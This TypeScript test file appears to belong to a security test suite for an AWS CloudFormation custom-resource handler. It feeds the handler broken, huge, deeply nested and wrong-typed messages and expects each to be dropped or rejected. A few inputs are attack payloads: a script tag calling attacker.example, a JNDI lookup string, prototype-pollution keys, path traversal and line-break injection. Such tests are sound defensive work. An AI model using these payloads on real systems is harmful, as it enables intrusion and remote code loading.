/** Messages that are not requests at all: broken, huge, deep, of wrong types. None of them leads to a response, a call or an exception. */
import { type Attack, DROPPED, inputs, unknown } from "./attack.js";
import { genuine, later, type Message, notification, signed, withProperties } from "./scene.js";

const deep = (levels: number) => "[".repeat(levels) + "]".repeat(levels);
const json = JSON.stringify(genuine);

/** The message with a value in place of a field's, as JSON that JSON.stringify would not write. */
const raw = (field: string, value: string) =>
  json.replace(new RegExp(`"${field}":"[^"]*"`), `"${field}":${value}`);

/** Values of every JSON type, none of which any field may hold. */
const WRONG: Readonly<Record<string, string>> = {
  null: "null",
  true: "true",
  "a number": "1",
  "a huge number": "1e999",
  "a list": "[]",
  "a list of one text": '["x"]',
  "an object": "{}",
  "an object with a text's methods": '{"toString":"x","valueOf":"x","length":1}',
  "an object with a prototype": '{"__proto__":{"x":1}}',
  "a list of 20 000 levels": deep(20_000),
  "an empty text": '""',
};

const wrongField = (
  field: string,
  others: Readonly<Record<string, string>> = {},
  message: Message = genuine,
): Attack => ({
  title: `${field} of a wrong type or form`,
  why: "A request is read by a schema that gives each field a type, a length and, where it ends up in a path, its characters.",
  inputs: inputs({ ...WRONG, ...others }, (value: string) =>
    notification(
      JSON.stringify(message).replace(new RegExp(`"${field}":"[^"]*"`), () => `"${field}":${value}`),
    ),
  ),
  expected: DROPPED,
});

const wrongProperty = (field: string, except: readonly string[] = []): Attack => ({
  title: `the property ${field} of a wrong type`,
  why: "Customers can write any property into their stacks, so a wrong one gets a response: with the name of the field and never its value.",
  inputs: inputs(
    Object.fromEntries(Object.entries(WRONG).filter(([name]) => !except.includes(name))),
    (value: string) => notification(raw(field, value)),
  ),
  expected: unknown(new RegExp(`did not send what our template sends: ${field} is invalid`)),
});

const text = (value: string) => JSON.stringify(value);

export const garbage: readonly Attack[] = [
  {
    title: "an event that is not one of SNS",
    why: "Without a list of records there is nothing to handle.",
    inputs: {
      null: null,
      "a text": "x",
      "a number": 1,
      "a list": [],
      "an empty object": {},
      "records that are null": { Records: null },
      "records that are an object": { Records: { length: 1, 0: {} } },
      "no records": { Records: [] },
      "a request of the API": { httpMethod: "POST", body: json },
    },
    expected: DROPPED,
  },
  {
    title: "a record that is not a notification",
    why: "A record is read by a schema; what does not match is counted and dropped.",
    inputs: inputs(
      {
        null: null,
        "a text": "x",
        "a list": [],
        "no Sns": {},
        "Sns is null": { Sns: null },
        "Sns is a text": { Sns: "x" },
        "Sns is a list": { Sns: [] },
        "no message": { Sns: { TopicArn: "x" } },
        "a message that is an object": { Sns: { Message: genuine } },
        "a message that is a list": { Sns: { Message: [json] } },
        "a message of a queue": { body: json, eventSource: "aws:sqs" },
        "a topic that is an object": { Sns: { Message: json, TopicArn: {} } },
        "a time that is none": { Sns: { Message: json, Timestamp: "yesterday" } },
        "a time that is a number": { Sns: { Message: json, Timestamp: 1 } },
        "a time with an impossible offset": {
          Sns: { Message: json, Timestamp: "2026-01-01T00:00:00+99:99" },
        },
      },
      (record: unknown) => ({ Records: [record] }),
    ),
    expected: DROPPED,
  },
  {
    title: "a message that is not a JSON object",
    why: "It is parsed once, as JSON; what cannot be parsed, or is not an object, is not a request.",
    inputs: inputs(
      {
        nothing: "",
        "a word": "hello",
        null: "null",
        true: "true",
        "a number": "42",
        "a text": '"x"',
        "a list": "[]",
        "a list with the request": `[${json}]`,
        "an empty object": "{}",
        "cut off": json.slice(0, -1),
        "cut off in the middle": json.slice(0, 200),
        "something behind it": `${json}x`,
        "two of them": json + json,
        "single quotes": json.replaceAll('"', "'"),
        "a comment": `/**/${json}`,
        "a trailing comma": `${json.slice(0, -1)},}`,
        "a byte order mark": `\ufeff${json}`,
        "a zero byte": `\u0000${json}`,
        XML: "<Request/>",
        YAML: "RequestType: Create",
        "base64 of it": Buffer.from(json).toString("base64"),
        "JSON within JSON": JSON.stringify(json),
        "a form": "RequestType=Create&StackId=x",
        "lone surrogates": "\ud800\udfff\ud800",
        "a script": "<script>fetch('https://attacker.example')</script>",
        "a look-up": `\${jndi:ldap://attacker.example/x}`,
      },
      (message: string) => notification(message),
    ),
    expected: DROPPED,
  },
  {
    title: "a huge or deep message",
    why: "A message of more than 64 KB is not even parsed, and nothing recurses into what was parsed.",
    inputs: inputs(
      {
        "256 KB of spaces behind it": json + " ".repeat(262_144),
        "1 MB of one field": raw("RequestType", text("a".repeat(1_000_000))),
        "32 000 levels of lists": deep(32_000),
        "10 000 levels of objects": `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`,
        "levels that do not end": "[".repeat(60_000),
        "a field of 32 000 levels": raw("ResponseURL", deep(32_000)),
        "7000 fields": `{${Array.from({ length: 7000 }, (_, index) => `"a${index}":1`).join()}}`,
        "a number of 60 000 digits": "1".repeat(60_000),
      },
      (message: string) => notification(message),
    ),
    expected: DROPPED,
  },
  {
    title: "prototype keys in place of the fields",
    why: "JSON.parse makes plain properties of them, and the schema reads only the fields that it names, of the object itself.",
    inputs: inputs(
      {
        "all fields in __proto__": `{"__proto__":${json}}`,
        "all fields in constructor.prototype": `{"constructor":{"prototype":${json}}}`,
        "all fields in prototype": `{"prototype":${json}}`,
        "the type in __proto__": json.replace(
          '"RequestType":"Create"',
          '"__proto__":{"RequestType":"Create"}',
        ),
        "the type named __proto__": raw("RequestType", text("__proto__")),
        "the type named constructor": raw("RequestType", text("constructor")),
        "the type named toString": raw("RequestType", text("toString")),
      },
      (message: string) => notification(message),
    ),
    expected: DROPPED,
  },
  {
    title: "prototype keys in place of the properties",
    why: "The properties are copied field by field; none is ever taken from a prototype.",
    inputs: inputs(
      {
        "in __proto__": `{"__proto__":${JSON.stringify(genuine.ResourceProperties)}}`,
        "in constructor": `{"constructor":${JSON.stringify(genuine.ResourceProperties)}}`,
        none: "{}",
        null: "null",
        "a text": '"x"',
        "a list": "[]",
        "a list of the properties": `[${JSON.stringify(genuine.ResourceProperties)}]`,
        "20 000 levels": deep(20_000),
      },
      (properties: string) =>
        notification(json.replace(JSON.stringify(genuine.ResourceProperties), () => properties)),
    ),
    expected: unknown(/did not send what our template sends/),
  },
  wrongField("RequestType", {
    "in lower case": text("create"),
    "in capitals": text("CREATE"),
    "with a space": text("Create "),
    "another one": text("Rollback"),
    "with a Cyrillic letter": text("Cre\u0430te"),
  }),
  wrongField("RequestId", {
    "a slash": text("../x"),
    "a bar": text("a|b"),
    "an escape": text("a%7Cb"),
    "a question mark": text("a?b"),
    "a hash sign": text("a#b"),
    "a dot": text("."),
    "a line break": text("a\r\nb"),
    "fullwidth digits": text("\uff11\uff12"),
    "65 characters": text("a".repeat(65)),
  }),
  wrongField("StackId", {
    "a name": text("attacker"),
    "a change set": text("arn:aws:cloudformation:eu-west-1:444455556666:changeSet/x/1"),
    "of another service": text("arn:aws:s3:eu-west-1:444455556666:stack/x/1"),
    "without a UUID": text("arn:aws:cloudformation:eu-west-1:444455556666:stack/x"),
    "with another segment": text("arn:aws:cloudformation:eu-west-1:444455556666:stack/x/1/2"),
    "with a parent segment": text("arn:aws:cloudformation:eu-west-1:444455556666:stack/../1"),
    "with a bar": text("arn:aws:cloudformation:eu-west-1:444455556666:stack/x/1|Connection"),
    "with a question mark": text("arn:aws:cloudformation:eu-west-1:444455556666:stack/x/1?x"),
    "with an escape": text("arn:aws:cloudformation:eu-west-1:444455556666:stack/x%2F1/1"),
    "of 11 digits": text("arn:aws:cloudformation:eu-west-1:44445555666:stack/x/1"),
    "in fullwidth digits": text(`arn:aws:cloudformation:eu-west-1:${"\uff14".repeat(12)}:stack/x/1`),
    "in Arabic-Indic digits": text(`arn:aws:cloudformation:eu-west-1:${"\u0664".repeat(12)}:stack/x/1`),
    "with a line break": text("arn:aws:cloudformation:eu-west-1:444455556666:stack/x/1\n"),
    "of a partition in capitals": text("arn:AWS:cloudformation:eu-west-1:444455556666:stack/x/1"),
    "with a wildcard": text("arn:aws:cloudformation:*:444455556666:stack/x/1"),
  }),
  wrongField("LogicalResourceId", {
    "a slash": text("Connection/x"),
    "a bar": text("Connection|x"),
    "a dot": text(".."),
    "a hyphen": text("Connection-1"),
    "an escape": text("Connection%2F"),
    "a Cyrillic letter": text("Conne\u0441tion"),
    "256 characters": text("a".repeat(256)),
  }),
  wrongField("ResponseURL"),
  wrongField(
    "PhysicalResourceId",
    {
      "1025 characters": text("a".repeat(1025)),
      "1024 characters of three bytes": text("\u20ac".repeat(1024)),
      "1024 zero bytes": text("\u0000".repeat(1024)),
      "a line break": text("a\nb"),
      "text turned around": text("\u202ea"),
    },
    signed(later(genuine, "Delete")),
  ),
  {
    title: "an Update or a Delete without a physical ID",
    why: "CloudFormation never sends one without it, and a response without it would hide its own reason.",
    inputs: inputs(["Update", "Delete"], (type: "Update" | "Delete") => {
      const { PhysicalResourceId: _, ...message } = later(genuine, type);
      return notification(signed(message as Message));
    }),
    expected: DROPPED,
  },
  wrongProperty("RoleArn"),
  wrongProperty("AccountID"),
  wrongProperty("ExternalID"),
  wrongProperty("GrantedTo"),
  wrongProperty("ServiceToken"),
  wrongProperty("TemplateVersion", ["an empty text"]),
  {
    title: "properties that are too long",
    why: "Each has a maximum length that no genuine one comes near, so that neither a response nor a record grows.",
    inputs: inputs(
      ["RoleArn", "AccountID", "ExternalID", "GrantedTo", "TemplateVersion", "ServiceToken"],
      (field: string) => notification(withProperties(genuine, { [field]: "x".repeat(5000) })),
    ),
    expected: unknown(/is invalid/),
  },
];
